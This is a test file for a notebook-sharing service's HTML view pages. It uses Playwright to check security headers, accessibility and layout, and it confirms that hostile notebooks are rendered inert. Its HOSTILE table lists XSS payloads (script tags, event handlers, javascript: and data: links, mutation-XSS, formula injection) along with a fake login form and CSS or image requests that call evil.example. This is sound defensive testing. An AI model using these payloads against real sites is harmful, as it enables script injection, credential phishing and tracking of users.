"""The view pages over HTTP and in a real Chromium, for honest notebooks and hostile ones."""

import base64
import html
import json
import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import parse_qsl

import pytest
from playwright.sync_api import Browser, Page, sync_playwright
from running_service import RunningService, bearer, notebook, unique_notebook

pytestmark = pytest.mark.service

HONEST = json.loads((Path(__file__).parent / "notebooks" / "penguins.json").read_text())
CHROMIUM = [
    "--no-sandbox", "--disable-gpu", "--disable-background-networking",
    "--disable-component-update", "--disable-sync", "--no-first-run",
]  # fmt: skip

RUN = "window.top.document.title='OWNED'"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script></svg>'
HTML_DOCUMENT = base64.b64encode(f"<script>{RUN}</script>".encode()).decode()
HOSTILE = {
    "script": f"<script>{RUN}</script>",
    "handler": f'<img src="x" onerror="{RUN}"><body onload="{RUN}"><details open ontoggle="{RUN}">',
    "svg": SVG + f'<svg><a xlink:href="javascript:{RUN}"><text y="20">click</text></a></svg>',
    "javascript link": f'<a href="javascript:{RUN}">click</a> [click](javascript:{RUN})',
    "data link": f'<a href="data:text/html;base64,{HTML_DOCUMENT}">click</a>',
    "frame": f'<iframe srcdoc="<script>{RUN}</script>"></iframe><iframe src="javascript:{RUN}">',
    "object": f'<object data="data:text/html;base64,{HTML_DOCUMENT}"></object><embed src="x">',
    "css": (
        "<style>@import 'https://evil.example/x.css'; .bar{display:none} *{color:red}</style>"
        '<p style="position:fixed;inset:0;background:url(https://evil.example/p.png)">x</p>'
        '<link rel="stylesheet" href="https://evil.example/x.css">'
    ),
    "form": '<form action="https://evil.example"><input name="password"><button>Log in</button>',
    "meta": '<meta http-equiv="refresh" content="0;url=https://x.test"><base href="//x.test">',
    "remote image": '<img src="https://evil.example/t.gif"> ![t](https://evil.example/t.gif)',
    "mutation": (
        "<math><mtext><table><mglyph><style><!--</style>"
        f'<img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">'
    ),
    "attribute with a formula": f'<div title="\n\n$x$ onmouseover={RUN} x\n\n<div a="b">',
    "formula": rf"$\text{{<script>{RUN}</script>}}$ $\href{{javascript:{RUN}}}{{x}}$ $\frac{{$",
    "unclosed": "</main></body></html><!-- <plaintext> <textarea><title><noscript>",
}  # fmt: skip


def html_output(markup: str) -> dict[str, object]:
    return {
        "output_type": "display_data",
        "data": {
            "text/html": markup,
            "image/svg+xml": SVG,
            "application/javascript": RUN,
            "application/vnd.jupyter.widget-view+json": {"model_id": "x"},
            "text/plain": markup,
        },
        "metadata": {},
    }


def hostile_notebook(markup: str) -> dict[str, object]:
    code = {**notebook()["cells"][0], "source": markup}
    error = {
        "output_type": "error",
        "ename": markup,
        "evalue": markup,
        "traceback": [f"\x1b[31m{markup}\x1b[0m"],
    }
    stream = {"output_type": "stream", "name": "stdout", "text": markup}
    only_svg = {
        "output_type": "display_data",
        "data": {"image/svg+xml": SVG, "text/plain": markup},
        "metadata": {"image/svg+xml": {"alt": f'"><script>{RUN}</script>', "width": '"'}},
    }
    latex = {"output_type": "display_data", "data": {"text/latex": markup}, "metadata": {}}
    code["outputs"] = [html_output(markup), stream, only_svg, latex, error]
    markdown = {"cell_type": "markdown", "id": "m1", "metadata": {}, "source": markup}
    raw = {"cell_type": "raw", "id": "r1", "metadata": {}, "source": markup}
    return notebook(
        cells=[markdown, code, raw],
        metadata={"title": f"</title><script>{RUN}</script>{markup}"},
    )


@dataclass
class Watched:
    """A page, and everything it tried to do."""

    page: Page
    requests: list[str] = field(default_factory=list)
    messages: list[str] = field(default_factory=list)
    dialogs: list[str] = field(default_factory=list)

    def open(self, url: str) -> None:
        self.page.on("request", lambda request: self.requests.append(request.url))
        self.page.on("console", lambda message: self.messages.append(message.text))
        self.page.on("pageerror", lambda error: self.messages.append(str(error)))
        self.page.on("dialog", lambda dialog: (self.dialogs.append("!"), dialog.dismiss()))
        # Installed before the page's own policy counts, so it hears of every violation.
        self.page.add_init_script(
            "window.violations = [];"
            "document.addEventListener('securitypolicyviolation',"
            " e => window.violations.push(e.violatedDirective + ' ' + e.blockedURI));"
        )
        self.page.goto(url, wait_until="load")

    @property
    def violations(self) -> list[str]:
        return list(self.page.evaluate("window.violations"))

    @property
    def asked_elsewhere(self) -> list[str]:
        return [
            url
            for url in self.requests
            if not url.startswith(("data:", self.page.url.split("/s/")[0]))
        ]


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with sync_playwright() as playwright:
        running = playwright.chromium.launch(executable_path="/usr/bin/chromium", args=CHROMIUM)
        yield running
        running.close()


@pytest.fixture
def watched(browser: Browser) -> Iterator[Watched]:
    context = browser.new_context()
    yield Watched(context.new_page())
    context.close()


class TestOverHttp:
    def test_a_page_needs_no_token_and_no_script(self, plain_service: RunningService) -> None:
        shared = plain_service.shared(HONEST)
        answer = plain_service.http.get(f"/s/{shared['readable_id']}")
        assert answer.status_code == 200
        assert answer.headers["content-type"] == "text/html; charset=utf-8"
        assert "<script" not in answer.text
        policy = answer.headers["content-security-policy"]
        assert "default-src 'none'" in policy
        assert "script-src 'none'" in policy
        assert "unsafe" not in policy

    def test_links_unfurl_with_the_notebooks_title(self, plain_service) -> None:
        shared = plain_service.shared(HONEST)
        page = plain_service.http.get(f"/s/{shared['readable_id']}").text
        assert "<title>How heavy is a penguin?</title>" in page
        assert '<meta property="og:title" content="How heavy is a penguin?">' in page
        url = f"{plain_service.url}/s/{shared['readable_id']}"
        assert f'<meta property="og:url" content="{url}">' in page

    def test_the_buttons_open_a_copy_and_download(self, plain_service) -> None:
        content = unique_notebook()
        readable = plain_service.shared(content)["readable_id"]
        page = plain_service.http.get(f"/s/{readable}").text
        assert f'href="https://site.example/lite/lab/index.html?notebook={readable}"' in page
        answer = plain_service.http.get(f"/s/{readable}/download")
        assert answer.json() == content
        assert f'filename="{readable}.ipynb"' in answer.headers["content-disposition"]

    def test_the_page_of_an_earlier_version_opens_a_copy_of_that_version(
        self, plain_service
    ) -> None:
        token = plain_service.token()
        shared = plain_service.shared(unique_notebook(), token)
        place = f"/notebooks/{shared['id']}"
        assert plain_service.put(place, unique_notebook(), token).status_code == 200
        first = min(plain_service.get(f"{place}/history", token).json()["taken_at"])
        page = plain_service.http.get(f"/s/{shared['readable_id']}", params={"at": first}).text
        (opens,) = re.findall(r'href="[^"]*/lab/index\.html\?([^"]*)"', page)
        asked = dict(parse_qsl(html.unescape(opens)))
        assert asked == {"notebook": shared["readable_id"], "at": first}

    def test_without_a_site_there_is_no_button_to_open_one(self, start) -> None:
        service = start()
        page = service.http.get(f"/s/{service.shared()['readable_id']}").text
        assert "JupyterLite" not in page

    def test_a_page_is_not_indexed_and_tells_nobody_its_address(self, plain_service) -> None:
        answer = plain_service.http.get(f"/s/{plain_service.shared()['readable_id']}")
        assert "noindex" in answer.headers["x-robots-tag"]
        assert answer.headers["referrer-policy"] == "no-referrer"
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert "frame-ancestors 'none'" in answer.headers["content-security-policy"]

    @pytest.mark.parametrize("path", ["calm-silver-nobody", "x", "..%2f..", "a-b-c/download"])
    def test_an_unknown_notebook_has_a_page_that_says_what_to_do(self, plain_service, path) -> None:
        answer = plain_service.http.get(f"/s/{path}")
        assert answer.status_code == 404
        if "%2f" not in path:
            assert "letter by letter" in answer.text

    def test_an_update_shows_at_once(self, plain_service) -> None:
        token = plain_service.token()
        shared = plain_service.shared(token=token)
        plain_service.http.get(f"/s/{shared['readable_id']}")
        plain_service.put(f"/notebooks/{shared['id']}", notebook("changed = 7"), token)
        assert "changed" in plain_service.http.get(f"/s/{shared['readable_id']}").text

    def test_the_interface_page_lists_every_call(self, plain_service) -> None:
        page = plain_service.http.get("/docs")
        document = plain_service.http.get("/openapi.json").json()
        for path in document["paths"]:
            assert f"{path}</code>" in page.text
        assert "<script" not in page.text


class TestHonestNotebooks:
    def test_nothing_is_blocked_nothing_is_asked_elsewhere(self, plain_service, watched) -> None:
        readable = plain_service.shared(HONEST)["readable_id"]
        watched.open(f"{plain_service.url}/s/{readable}")
        assert watched.violations == []
        assert watched.messages == []
        assert watched.asked_elsewhere == []

    def test_images_formulas_tables_code_and_errors_are_there(self, plain_service, watched) -> None:
        readable = plain_service.shared(HONEST)["readable_id"]
        watched.open(f"{plain_service.url}/s/{readable}")
        page = watched.page
        images = page.locator("main img")
        assert images.count() == 2
        for index in range(2):
            assert images.nth(index).evaluate("i => i.complete && i.naturalWidth > 100")
            assert images.nth(index).get_attribute("alt")
        assert page.locator("math").count() == 5
        assert page.locator("table").count() == 2
        assert page.locator(".stream.error .t-f1").count() > 0
        fraction = page.locator("math mfrac").first.bounding_box()
        assert fraction is not None
        assert fraction["height"] > 20

    def test_a_page_has_landmarks_one_title_and_enough_contrast(
        self, plain_service, browser
    ) -> None:
        readable = plain_service.shared(HONEST)["readable_id"]
        for scheme in ("light", "dark"):
            context = browser.new_context(color_scheme=scheme)
            page = context.new_page()
            page.goto(f"{plain_service.url}/s/{readable}")
            for role in ("banner", "main", "contentinfo", "navigation"):
                assert page.get_by_role(role).count() == 1
            assert page.locator("h1").count() == 1
            assert page.locator("html[lang]").count() == 1
            assert page.evaluate(LOWEST_CONTRAST) >= 4.5
            context.close()

    def test_a_page_works_with_the_keyboard_alone(self, plain_service, watched) -> None:
        readable = plain_service.shared(HONEST)["readable_id"]
        watched.open(f"{plain_service.url}/s/{readable}")
        reached = []
        for _ in range(4):
            watched.page.keyboard.press("Tab")
            reached.append(watched.page.evaluate("document.activeElement.textContent.trim()"))
        assert reached[:3] == ["Skip to the notebook", "Open in JupyterLite", "Download .ipynb"]

    @pytest.mark.parametrize("width", [360, 1280])
    def test_a_page_never_scrolls_sideways(self, plain_service, browser, width) -> None:
        context = browser.new_context(viewport={"width": width, "height": 800})
        page = context.new_page()
        wide = "x" * 3000
        table = "<table><tr>" + f"<td>{wide[:40]}</td>" * 60 + "</tr></table>"
        content = notebook(cells=HONEST["cells"] + hostile_notebook(wide)["cells"])
        content["cells"][-2]["outputs"] = [html_output(table)]
        readable = plain_service.shared(content)["readable_id"]
        page.goto(f"{plain_service.url}/s/{readable}")
        assert page.evaluate("document.documentElement.scrollWidth") <= width
        context.close()

    def test_a_page_prints_without_its_buttons(self, plain_service, watched) -> None:
        readable = plain_service.shared(HONEST)["readable_id"]
        watched.open(f"{plain_service.url}/s/{readable}")
        watched.page.emulate_media(media="print")
        assert not watched.page.get_by_text("Open in JupyterLite").is_visible()
        assert watched.page.get_by_text(f"/s/{readable}").is_visible()
        assert watched.page.pdf(format="A4").startswith(b"%PDF")

    def test_a_page_prints_also_what_is_folded_away(self, plain_service, watched) -> None:
        folded = {**notebook()["cells"][0], "metadata": {"jupyter": {"source_hidden": True}}}
        readable = plain_service.shared(notebook(cells=[folded]))["readable_id"]
        watched.open(f"{plain_service.url}/s/{readable}")
        is_shown = "e => e.checkVisibility({contentVisibilityAuto: true})"
        code = watched.page.locator("details pre")
        assert not code.evaluate(is_shown)
        watched.page.emulate_media(media="print")
        assert code.evaluate(is_shown)

    def test_the_page_is_the_same_without_javascript(self, plain_service, browser) -> None:
        readable = plain_service.shared(HONEST)["readable_id"]
        context = browser.new_context(java_script_enabled=False)
        page = context.new_page()
        page.goto(f"{plain_service.url}/s/{readable}")
        assert page.get_by_role("heading", name="How heavy is a penguin?").is_visible()
        assert page.get_by_role("link", name="Open in JupyterLite").is_visible()
        context.close()


class TestHostileNotebooks:
    @pytest.mark.parametrize("kind", HOSTILE)
    def test_a_hostile_notebook_runs_nothing_and_asks_nobody(
        self, plain_service, watched, kind
    ) -> None:
        readable = plain_service.shared(hostile_notebook(HOSTILE[kind]))["readable_id"]
        watched.open(f"{plain_service.url}/s/{readable}")
        for link in watched.page.get_by_text("click", exact=True).all():
            link.click(no_wait_after=True, timeout=5000)
        watched.page.mouse.move(200, 200)
        watched.page.wait_for_load_state("networkidle")
        assert watched.page.title() != "OWNED"
        assert watched.page.url == f"{plain_service.url}/s/{readable}"
        assert watched.dialogs == []
        assert watched.asked_elsewhere == []
        # The cleaning leaves the policy nothing to do: it is the second wall, not the first.
        assert watched.violations == []
        assert watched.page.locator("script, iframe, object, embed, form, input").count() == 0
        assert watched.page.locator("main svg, main style, main [style]").count() == 0
        assert watched.page.get_by_role("link", name="Download .ipynb").is_visible()
        assert watched.page.get_by_text("A snapshot of a notebook").is_visible()

    def test_the_policy_alone_would_stop_a_script(self, plain_service, watched) -> None:
        watched.open(f"{plain_service.url}/s/{plain_service.shared()['readable_id']}")
        watched.page.evaluate(
            "document.body.insertAdjacentHTML('beforeend',"
            " '<img src=x onerror=\"document.title=1\"><p style=color:red>x</p>')"
        )
        watched.page.wait_for_function("window.violations.length >= 2")
        assert watched.page.title() != "1"

    def test_a_huge_table_shows_and_scrolls_in_its_own_box(self, plain_service, watched) -> None:
        rows = "".join(f"<tr><td>{row}</td><td>{'y' * 200}</td></tr>" for row in range(5000))
        content = notebook()
        content["cells"][0]["outputs"] = [html_output(f"<table>{rows}</table>")]
        readable = plain_service.shared(content)["readable_id"]
        watched.open(f"{plain_service.url}/s/{readable}")
        assert watched.page.locator("tr").count() == 5000
        assert watched.page.evaluate(
            "document.documentElement.scrollWidth <= document.documentElement.clientWidth"
        )

    def test_a_table_beyond_reason_is_left_to_the_download(self, plain_service) -> None:
        content = notebook()
        content["cells"][0]["outputs"] = [html_output("<tr><td>1</td></tr>" * 200_000)]
        page = plain_service.http.get(f"/s/{plain_service.shared(content)['readable_id']}")
        assert page.status_code == 200
        assert "too large to show" in page.text
        assert len(page.content) < 500_000

    def test_a_large_honest_notebook_renders_in_time(self, plain_service) -> None:
        cells = [
            {
                **notebook()["cells"][0],
                "id": f"c{number}",
                "source": "for i in range(10):\n    print(i)\n" * 10,
                "outputs": [{"output_type": "stream", "name": "stdout", "text": "1\n" * 100}],
            }
            for number in range(500)
        ]
        readable = plain_service.shared(notebook(cells=cells))["readable_id"]
        answer = plain_service.http.get(f"/s/{readable}")
        assert answer.text.count('<section class="cell code">') == 500
        assert answer.elapsed.total_seconds() < 15


def test_the_api_never_answers_with_a_page(plain_service: RunningService) -> None:
    shared = plain_service.shared(hostile_notebook(HOSTILE["script"]))
    token = bearer(plain_service.token())
    for path in ("", "/export"):
        answer = plain_service.http.get(f"/api/v1/notebooks/{shared['id']}{path}", headers=token)
        assert not re.search("html", answer.headers["content-type"])
        assert answer.headers["x-content-type-options"] == "nosniff"


# The lowest contrast of any text on the page with what is behind it (WCAG 2's formula).
LOWEST_CONTRAST = r"""
() => {
  const light = ([r, g, b]) => [r, g, b].map(v => v / 255)
    .map(v => v <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4)
    .reduce((sum, v, i) => sum + v * [0.2126, 0.7152, 0.0722][i], 0);
  const parse = text => text.match(/[\d.]+/g).map(Number);
  const behind = element => {
    for (let e = element; e; e = e.parentElement) {
      const colour = parse(getComputedStyle(e).backgroundColor);
      if (colour.length === 3 || colour[3] === 1) return colour;
    }
    return [255, 255, 255];
  };
  let lowest = 21;
  for (const element of document.querySelectorAll('body *')) {
    if (![...element.childNodes].some(n => n.nodeType === 3 && n.textContent.trim())) continue;
    if (!element.getClientRects().length) continue;
    const a = light(parse(getComputedStyle(element).color)), b = light(behind(element));
    lowest = Math.min(lowest, (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05));
  }
  return lowest;
}
"""
